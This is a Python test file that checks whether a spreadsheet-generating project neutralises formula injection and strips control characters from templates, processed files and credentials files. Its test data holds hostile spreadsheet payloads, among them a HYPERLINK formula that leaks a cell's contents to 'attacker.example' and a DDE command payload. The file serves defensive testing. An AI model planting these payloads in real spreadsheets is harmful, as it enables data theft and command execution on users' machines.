"""Every file we write: no formula injection, no character XML cannot carry.

Formula injection: a text beginning with `=`, `+`, `-`, `@`, tab or CR is written as an
explicit text cell (an inline string, never `<f>`), its value unchanged (no leading
apostrophe), with Excel's quote prefix so that editing it keeps it text. Numbers stay
numbers. Checked in templates with pre-filled facilities, a child's frozen parent rows,
the boundary and lists sheets, the metadata, processed files and credentials files; and
after LibreOffice opened and saved the template again.

Control characters: a value a target or a parent file stored with one never makes a
template fail (openpyxl's IllegalCharacterError); the processed file of an upload that
carried them is well-formed XML.
"""

import io
import re
import zipfile
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from project_factory.domain.boundaries import Boundary
from project_factory.domain.resources import RowStatus
from project_factory.sheets.credentials import CredentialsWorkbook
from project_factory.sheets.freeze_parent_rows import OLD_BOUNDARY_COLUMN, freeze_rows, parent_rows
from project_factory.sheets.messages import load_bundled_messages
from project_factory.sheets.metadata import METADATA_SHEET
from project_factory.sheets.processed import write_processed
from project_factory.sheets.processed_results import RowResult
from project_factory.sheets.schema import bundled_json_schema
from project_factory.sheets.spec import FACILITY, USER
from project_factory.sheets.template import prefilled_facility
from project_factory.sheets.written import FORMULA_STARTS, looks_like_formula
from tests.support.libreoffice import requires_soffice, resave
from tests.unit.generate.support import EVERY, LEVELS, boundaries, template
from tests.unit.hostile.corpus import SHEET, changed, in_sheet, normal, parts_of

MESSAGES = load_bundled_messages()
FACILITIES = "List of Available Facilities"
USERS = MESSAGES.text(USER.data_sheet)
NAME = "HCM_ADMIN_CONSOLE_FACILITY_NAME"
INJECTIONS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]


def facility_template(name: str, capacity: float = 500) -> bytes:
    existing = prefilled_facility(
        {
            "id": "F-1",
            "name": name,
            "facilityType": "Warehouse",
            "isPermanent": True,
            "capacity": capacity,
            "boundaryCodes": ["L1"],
        }
    )
    return template("facilityWithBoundary", existing_rows=[existing])


def sheet_part(data: bytes, title: str) -> bytes:
    """The XML of the sheet `title` of a workbook."""
    book = load_workbook(io.BytesIO(data))
    index = book.sheetnames.index(title)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = sorted(
            (n for n in archive.namelist() if re.match(r"xl/worksheets/sheet\d+\.xml$", n)),
            key=lambda n: int(re.findall(r"\d+", n)[-1]),
        )
        return archive.read(names[index])


def cell_of(data: bytes, title: str, text: str) -> object:
    """The cell of sheet `title` whose value is `text`."""
    sheet = load_workbook(io.BytesIO(data))[title]
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value == text:
                return cell
    raise AssertionError(f"no cell {text!r} in {title}")


def assert_text_cell(data: bytes, title: str, text: str) -> None:
    """`text` is a text cell of `title`, unchanged, quote-prefixed when it looks like a
    formula, and the sheet holds no formula at all. (A CR comes back as a line feed, as
    XML's line ends do.)"""
    cell = cell_of(data, title, text.replace("\r", "\n"))
    assert cell.data_type == "s"
    if looks_like_formula(text):
        assert cell.quotePrefix
    assert b"<f>" not in sheet_part(data, title) and b"<f " not in sheet_part(data, title)


@pytest.mark.parametrize("name", INJECTIONS)
def test_a_pre_filled_facility_name_that_looks_like_a_formula_is_text(name):
    # Given a permanent facility whose name is a formula
    # When the facility template is made with it
    data = facility_template(name)

    # Then the name is a text cell, as it was, and nothing in the sheet is a formula
    assert_text_cell(data, FACILITIES, name)


def test_every_start_owasp_names_is_neutralised():
    # Given / When / Then the list covers OWASP's characters
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_negative_numbers_stay_numbers():
    # Given a facility of negative capacity (a number, not text)
    data = facility_template("Depot", capacity=-5)

    # When / Then the capacity is a number cell
    sheet = load_workbook(io.BytesIO(data))[FACILITIES]
    capacity = next(cell for cell in sheet[2] if cell.value == -5)
    assert capacity.data_type == "n"


def test_error_like_text_stays_text():
    # Given a facility named like an Excel error
    data = facility_template("#N/A")

    # When / Then it is text, not an error cell
    assert cell_of(data, FACILITIES, "#N/A").data_type == "s"


def test_boundary_names_and_codes_that_look_like_formulas_are_text_everywhere():
    # Given a hierarchy whose names and codes look like formulas (a hostile boundary
    # service), with more codes than an inline dropdown holds (so the lists sheet is used)
    hostile = [
        Boundary("=K", "=HYPERLINK(1)", "Country", None),
        Boundary("+P", "+Province", "Province", "=K"),
        Boundary("-D", "@District", "District", "+P"),
        *[Boundary(f"=L{n:03}", f"-Loc{n}", "Locality", "-D") for n in range(60)],
    ]
    chosen = boundaries(selected=hostile, every=hostile)

    # When the user template is made
    data = template("userWithBoundary", boundaries=chosen)

    # Then they are text cells in the boundary sheet and in the lists sheet
    boundary_sheet = MESSAGES.text("HCM_ADMIN_CONSOLE_BOUNDARY_DATA")
    for text in ("=HYPERLINK(1)", "+Province", "@District", "=K", "-Loc7"):
        assert_text_cell(data, boundary_sheet, text)
    assert_text_cell(data, "_lists", "=L007")
    assert LEVELS  # the hierarchy's levels are the sample's


def test_metadata_that_looks_like_a_formula_is_text():
    # Given / When a template whose campaign id looks like a formula
    data = template("userWithBoundary", metadata={"type": "userWithBoundary", "campaignId": "=1+2"})

    # Then it is a text cell of the metadata sheet
    assert_text_cell(data, METADATA_SHEET, "=1+2")


def test_frozen_parent_rows_keep_formula_like_values_as_text():
    # Given a child's user template pre-filled with a parent row whose name and boundary
    # code look like formulas
    parent = {
        "HCM_ADMIN_CONSOLE_USER_NAME": "=2+3",
        "HCM_ADMIN_CONSOLE_USER_PHONE_NUMBER": 9100000001,
        "HCM_ADMIN_CONSOLE_USER_ROLE": "Distributor",
        "HCM_ADMIN_CONSOLE_USER_EMPLOYMENT_TYPE": "Temporary",
        "HCM_ADMIN_CONSOLE_BOUNDARY_CODE": "=SUM(L1)",
        "HCM_ADMIN_CONSOLE_USER_USAGE": "Active",
    }
    data = template("userWithBoundary", existing_rows=[parent])

    # When its parent rows are frozen (the boundary code copied to the hidden _OLD column)
    frozen = freeze_rows(data, USER, 1, MESSAGES, "en_IN")

    # Then the name, the code and its copy are text cells, no formula anywhere
    sheet = load_workbook(io.BytesIO(frozen))[USERS]
    header = [cell.value for cell in sheet[1]]
    old = header.index(MESSAGES.text(OLD_BOUNDARY_COLUMN)) + 1
    assert sheet.cell(2, old).value == sheet.cell(2, old + 1).value == "=SUM(L1)"
    assert sheet.cell(2, old).data_type == sheet.cell(2, old + 1).data_type == "s"
    assert_text_cell(frozen, USERS, "=2+3")


def test_the_processed_file_writes_every_cell_as_text():
    # Given an upload whose name is formula-like text, and results that look like formulas
    upload = changed(normal(), {SHEET: in_sheet(b"Facility 0", b"=1+2")})
    result = RowResult(RowStatus.FAILED, id="=cmd|'/C calc'!A0", errors=['=HYPERLINK("x","y")'])

    # When the processed file is written
    target = io.BytesIO()
    write_processed(upload, FACILITY, [(2, result)], MESSAGES, "en_IN", target)
    data = target.getvalue()

    # Then the uploaded text, the id and the error are text cells: no formula at all
    part = parts_of(data)[SHEET]
    assert b"<f>" not in part and b"<f " not in part
    sheet = load_workbook(io.BytesIO(data))[FACILITIES]
    cells = {cell.value: cell for cell in sheet[2]}
    for text in ("=1+2", "=cmd|'/C calc'!A0", '=HYPERLINK("x","y")'):
        assert cells[text].data_type == "s"


@requires_soffice
def test_libreoffice_reads_the_neutralised_cells_as_text():
    # Given a template whose pre-filled facility is named like a formula
    name = '=HYPERLINK("http://attacker.example","Click")'
    data = facility_template(name)

    # When LibreOffice opens it and saves it again
    saved = resave(data)

    # Then the cell is still the text, not a formula nor its result
    cell = cell_of(saved, FACILITIES, name)
    assert cell.data_type == "s"
    assert b"<f>" not in sheet_part(saved, FACILITIES)


# -------------------------------------------------------------------- control characters


def test_a_stored_facility_with_control_characters_never_fails_the_template():
    # Given a permanent facility stored with control characters in its name
    # When the facility template is made with it (openpyxl refuses such text)
    data = facility_template("Clinic\x01\x08A")

    # Then the template is made, the characters replaced
    assert cell_of(data, FACILITIES, "Clinic\ufffd\ufffdA").data_type == "s"


def test_boundary_names_with_control_characters_never_fail_the_template():
    # Given a hierarchy whose names carry control characters
    hostile = [Boundary(b.code, f"{b.name}\x02", b.type, b.parent) for b in EVERY]

    # When / Then the template is made, the names cleaned
    data = template("userWithBoundary", boundaries=boundaries(hostile, hostile))
    assert cell_of(data, MESSAGES.text("HCM_ADMIN_CONSOLE_BOUNDARY_DATA"), "Kalanga\ufffd")


def test_a_parent_file_with_control_characters_gives_clean_frozen_rows():
    # Given a parent's processed facility file whose name cell carries a raw control byte
    processed = changed(normal(), {SHEET: in_sheet(b"Facility 0", b"Clinic\x01A")})
    schema = bundled_json_schema(FACILITY.schema_identifier)

    # When its rows are read for a child's template, and the template is made with them
    rows = parent_rows(processed, FACILITY, MESSAGES, schema)
    data = template("facilityWithBoundary", existing_rows=rows)

    # Then the name arrives cleaned and the template is made
    assert rows[0][NAME] == "Clinic\ufffdA"
    assert cell_of(data, FACILITIES, "Clinic\ufffdA")


@pytest.mark.parametrize("raw", [b"Clinic\x01A", b"Clinic&#1;A", b"Clinic&#x1F;A"])
def test_the_processed_file_of_an_upload_with_control_characters_is_well_formed(raw):
    # Given an upload whose name cell carries a control character (bytes or reference),
    # also in a part copied as it is
    upload = changed(
        normal(),
        {
            SHEET: in_sheet(b"Facility 0", raw),
            "docProps/core.xml": lambda xml: xml.replace(b"openpyxl", b"open\x01pyxl"),
        },
    )
    result = RowResult(RowStatus.INVALID, errors=["ILLEGAL_CHARACTER: Facility Name"])

    # When the processed file is written
    target = io.BytesIO()
    write_processed(upload, FACILITY, [(2, result)], MESSAGES, "en_IN", target)

    # Then every XML part parses, and the character was replaced
    for name, content in parts_of(target.getvalue()).items():
        if name.endswith((".xml", ".rels")):
            ElementTree.fromstring(content)
    assert cell_of(target.getvalue(), FACILITIES, "Clinic\ufffdA")


def test_the_credentials_file_keeps_formula_like_passwords_and_names_as_text():
    # Given a created user whose password begins with @ and whose name is a formula
    book = CredentialsWorkbook(MESSAGES, "en_IN")
    book.add(
        username="USR-MZ-000001",
        password="@Kp3#mQ9zXy7",
        name='=HYPERLINK("http://attacker.example/","x")',
        phone="9000000001",
        boundary_codes=["=L1"],
        row_number=2,
    )

    # When the credentials file is written
    data = book.to_bytes()

    # Then the password, the name and the boundary code are text cells, quote-prefixed,
    # their values unchanged, and the phone stays text (its leading digits kept)
    sheet = MESSAGES.text("PF_CREDENTIALS_SHEET", "en_IN")
    assert data is not None
    for text in ("@Kp3#mQ9zXy7", '=HYPERLINK("http://attacker.example/","x")', "=L1"):
        assert_text_cell(data, sheet, text)
    assert cell_of(data, sheet, "9000000001").data_type == "s"
